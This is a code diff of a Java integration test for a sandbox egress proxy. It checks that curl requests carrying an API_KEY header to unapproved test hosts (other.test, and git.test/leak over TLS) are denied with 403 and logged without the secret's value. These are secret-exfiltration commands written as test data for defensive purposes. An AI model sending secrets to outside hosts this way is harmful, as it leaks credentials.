@@ -185,13 +185,21 @@ class LocalEgressSecretsIT {
       String out = sandbox.exec("curl -s -m 20 -w ' %{http_code}' -H \"X-Api-Key: $API_KEY\" http://other.test:"
           + upstream.port() + "/").stdout();
       assertThat(out).contains("secret-to-unbound-host (API_KEY)").endsWith(" 403");
+      // over TLS to the host of another secret, which the proxy intercepts and so reads
+      ExecResult toGitHost = bash(sandbox, ProxyClients.curl("https://git.test:" + upstream.port() + "/leak",
+          "X-Api-Key", "API_KEY"));
+      assertThat(toGitHost.stdout()).as("%s: %s", toGitHost, toGitHost.stderr())
+          .isEqualTo("403 egress denied by secret-to-unbound-host (API_KEY)\n");
       assertThat(upstream.received()).hasSize(before);
-      assertThat(sandbox.egress().events(0, 1000).events()).filteredOn(e -> e.host().equals("other.test"))
-          .singleElement().satisfies(e -> {
-            assertThat(e.allowed()).isFalse();
-            assertThat(e.rule()).isEqualTo("secret-to-unbound-host");
-            assertThat(e.secrets()).containsExactly("API_KEY");
-          });
+      List<EgressEvent> events = sandbox.egress().events(0, 1000).events();
+      for (String host : List.of("other.test", "git.test")) {
+        assertThat(events).filteredOn(e -> e.host().equals(host)).singleElement().satisfies(e -> {
+          assertThat(e.allowed()).isFalse();
+          assertThat(e.rule()).isEqualTo("secret-to-unbound-host");
+          assertThat(e.secrets()).containsExactly("API_KEY");
+        });
+      }
+      assertThat(events.toString()).doesNotContain(VALUE, TOKEN);
     }
   }
 
